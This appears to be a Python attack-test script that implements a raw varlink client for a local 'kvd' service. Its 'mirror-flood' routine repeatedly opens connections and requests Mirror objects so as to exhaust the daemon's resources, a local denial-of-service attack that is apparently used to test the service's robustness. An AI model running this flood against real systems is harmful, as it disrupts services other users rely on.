"""attack/38b/varlink.py — a bare varlink client for the attack scripts (NUL-framed JSON on a
Unix socket): what a hostile local program would send, with no kvd library in between."""
import json
import socket
import sys
import time


def connect(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(path)
    return s


def send(s, method, parameters=None, more=False):
    call = {"method": method, "parameters": parameters or {}}
    if more:
        call["more"] = True
    s.sendall(json.dumps(call).encode() + b"\0")


def replies(s, timeout=30):
    """Yields each reply (parsed) until the connection closes or a reply has no `continues`."""
    s.settimeout(timeout)
    buffer = b""
    while True:
        while b"\0" not in buffer:
            chunk = s.recv(1 << 20)
            if not chunk:
                return
            buffer += chunk
        message, buffer = buffer.split(b"\0", 1)
        reply = json.loads(message)
        yield reply
        if not reply.get("continues"):
            return


def mirror_flood(path, seconds, profile):
    """Opens a connection, asks for a Mirror, reads nothing and closes it; again and again."""
    end = time.time() + seconds
    count = 0
    while time.time() < end:
        try:
            s = connect(path)
            send(s, "io.kvd.System.Mirror", {"dconfProfile": "%s%d" % (profile, count)}, more=True)
            s.recv(1)  # the first byte of the reply: the Mirror was made
            s.close()
            count += 1
        except OSError:
            time.sleep(0.01)
    print("mirrors asked: %d" % count)


if __name__ == "__main__":
    if sys.argv[1] == "mirror-flood":
        mirror_flood(sys.argv[2], float(sys.argv[3]), sys.argv[4] if len(sys.argv) > 4 else "x")
